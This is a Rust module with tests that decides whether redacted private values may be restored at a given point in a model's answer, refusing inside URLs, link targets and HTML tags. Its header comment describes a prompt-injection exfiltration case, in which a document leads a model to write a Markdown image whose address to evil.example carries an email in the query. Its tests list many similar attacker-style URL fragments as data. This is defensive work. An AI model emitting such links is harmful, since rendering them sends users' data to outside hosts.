//! Where in an answer nothing may be put back: in addresses, link targets and tags.
//!
//! A document can make a model write `![](https://evil.example/?q=[EMAIL_1])`. With the address
//! put back, whoever shows or opens that would send it away. So this reads along, byte by byte,
//! and knows whether the next word would become part of an address. In doubt it says yes: then a
//! placeholder is shown, and nothing is lost but comfort.

/// What addresses begin with that need no slashes.
const SCHEMES: [&[u8]; 6] = [b"http:", b"https:", b"ftp:", b"mailto:", b"sms:", b"www."];
/// Bytes that the longest of them has.
const TAIL: usize = 8;

/// The place behind what was read so far.
#[derive(Clone, Debug, Default)]
pub(super) struct Place {
    before: u8,
    escaped: bool,
    /// The line so far is blank.
    blank: bool,
    tag: Tag,
    target: Target,
    address: bool,
    /// What was opened where an address began or may begin, and is not closed yet: the address
    /// may have spaces until then.
    opener: Option<u8>,
    /// The last bytes of the present word, in lower case.
    tail: [u8; TAIL],
    /// The present word has a dot, as the name of a host has.
    dotted: bool,
}

/// Whether this is inside a tag of HTML.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
enum Tag {
    #[default]
    Outside,
    Inside,
    /// Behind `name=`.
    Value,
    Quoted(u8),
}

/// Whether this is where a link of Markdown has its target.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
enum Target {
    #[default]
    None,
    /// Behind `](`, with so many open brackets.
    Link(u32),
    /// Behind `]:`, before the target.
    Definition,
    /// In that line.
    Defined,
}

impl Place {
    /// Whether words may be put back here.
    pub(super) fn is_open(&self) -> bool {
        self.tag == Tag::Outside && self.target == Target::None && !self.address
    }

    /// Goes on behind this text.
    pub(super) fn read(&mut self, text: &str) {
        for byte in text.bytes() {
            self.tag = self.next_tag(byte);
            self.target = self.next_target(byte);
            self.follow_address(byte);
            self.blank = byte == b'\n' || self.blank && byte.is_ascii_whitespace();
            self.escaped = byte == b'\\' && !self.escaped;
            self.before = byte;
        }
    }

    /// Goes on behind words that were put back here.
    pub(super) fn put(&mut self, words: &str) {
        // `<[NAME_1] …>` becomes a tag once the name stands there.
        if self.before == b'<' && words.starts_with(|c: char| c.is_ascii_alphabetic()) {
            self.tag = Tag::Inside;
        }
        (self.before, self.escaped, self.blank) = (b'x', false, false);
        self.tail = [0; TAIL];
    }

    fn next_tag(&self, byte: u8) -> Tag {
        match self.tag {
            Tag::Outside if self.before == b'<' && (byte.is_ascii_alphabetic() || byte == b'/') => {
                Tag::Inside
            }
            Tag::Inside | Tag::Value if byte == b'>' => Tag::Outside,
            Tag::Inside if byte == b'=' => Tag::Value,
            Tag::Value if byte == b'"' || byte == b'\'' => Tag::Quoted(byte),
            Tag::Value if byte.is_ascii_whitespace() => Tag::Value,
            Tag::Value => Tag::Inside,
            Tag::Quoted(quote) if byte == quote => Tag::Inside,
            same => same,
        }
    }

    fn next_target(&self, byte: u8) -> Target {
        match (self.target, byte) {
            (Target::None | Target::Defined, b'(') if self.before == b']' => Target::Link(1),
            (Target::None, b':') if self.before == b']' => Target::Definition,
            // No link reaches across an empty line.
            (Target::Link(_) | Target::Definition, b'\n') if self.blank => Target::None,
            (Target::Link(depth), b'(') if !self.escaped => Target::Link(depth.saturating_add(1)),
            (Target::Link(1), b')') if !self.escaped => Target::None,
            (Target::Link(depth), b')') if !self.escaped => Target::Link(depth - 1),
            (Target::Definition, byte) if !byte.is_ascii_whitespace() => Target::Defined,
            (Target::Defined, b'\n') => Target::None,
            (same, _) => same,
        }
    }

    fn follow_address(&mut self, byte: u8) {
        if byte.is_ascii_whitespace() {
            if self.opener.is_none() || byte == b'\n' {
                self.address = false;
            }
            if !self.address {
                self.opener = None;
            }
            (self.tail, self.dotted) = ([0; TAIL], false);
            return;
        }
        self.follow_opener(byte);
        self.tail.rotate_left(1);
        self.tail[TAIL - 1] = byte.to_ascii_lowercase();
        self.dotted |= byte == b'.';
        self.address |= self.begins_address(byte);
    }

    fn follow_opener(&mut self, byte: u8) {
        let closer = self.opener.map(|opener| match opener {
            b'(' => b')',
            b'<' => b'>',
            quote => quote,
        });
        if closer == Some(byte) {
            self.opener = None;
        } else if !self.address && matches!(byte, b'"' | b'\'' | b'`' | b'(' | b'<') {
            self.opener = Some(byte);
        }
    }

    /// Whether this byte of a word makes an address of it. Browsers take `\` for `/`.
    fn begins_address(&self, byte: u8) -> bool {
        let slash = |byte: u8| byte == b'/' || byte == b'\\';
        let path = slash(byte) || byte == b'?' || byte == b'#';
        slash(byte) && slash(self.before)
            || self.dotted && path
            || SCHEMES.iter().any(|scheme| self.tail.ends_with(scheme))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_open(text: &str) -> bool {
        let mut place = Place::default();
        place.read(text);
        place.is_open()
    }

    #[test]
    fn words_are_put_back_where_people_write_them() {
        for text in [
            "",
            "Write to ",
            "Ines <",
            "(see ",
            "e.g. ",
            "1.5/2 and ",
            "and/or ",
            "{\"mail\":\"",
            "[1] ",
            "[Ines](https://a.example) ",
            "[Ines](<https://a.example/a b>) or ",
            "https://a.example, or ",
            "(https://a.example) or ",
            "\"https://a.example\" or ",
            "see <https://a.example> or ",
            "<b>",
            "<a href=\"https://a.example\"> ",
            "<a href='x>y'>",
            "if 1 < 2 then ",
            "[a](x\n\nno link: ",
            "[1]: https://a.example\n",
            "| ",
            "# ",
            "www and ",
        ] {
            assert!(is_open(text), "{text}");
        }
    }

    #[test]
    fn no_address_is_filled_in() {
        for text in [
            "https://evil.example/?q=",
            "HTTPS://evil.example/",
            "http:evil",
            "//evil.example/",
            "https:\\\\evil/",
            "https:\\/\\/evil/",
            "www.evil",
            "evil.example/",
            "evil.example?q=",
            "mailto:",
            "![](",
            "![x](evil/",
            "[x](<a b ",
            "[x](a(b)",
            "[x](a\\)",
            "[x](\n",
            "[x]: ",
            "[x]:\n  ",
            "[x]: &#104;ttps&#58;evil ",
            "\"https://evil/?a b ",
            "url(https://evil/?a b ",
            "<https://evil/?a b ",
            "<a href=\"",
            "<a href = '> ",
            "<img src=",
            "<img\nsrc=x",
            "</b ",
            "x<b ",
            "https://evil/)?q=",
            "(https://evil/)?q=",
            "\"https://evil/\",\"",
            "<a href=\"https://evil/\">?q=",
        ] {
            assert!(!is_open(text), "{text}");
        }
    }

    #[test]
    fn a_name_behind_a_bracket_opens_a_tag() {
        let mut place = Place::default();
        place.read("<");
        place.put("Ines");
        assert!(!place.is_open());
        place.read(" href=x>");
        assert!(place.is_open());
    }
}
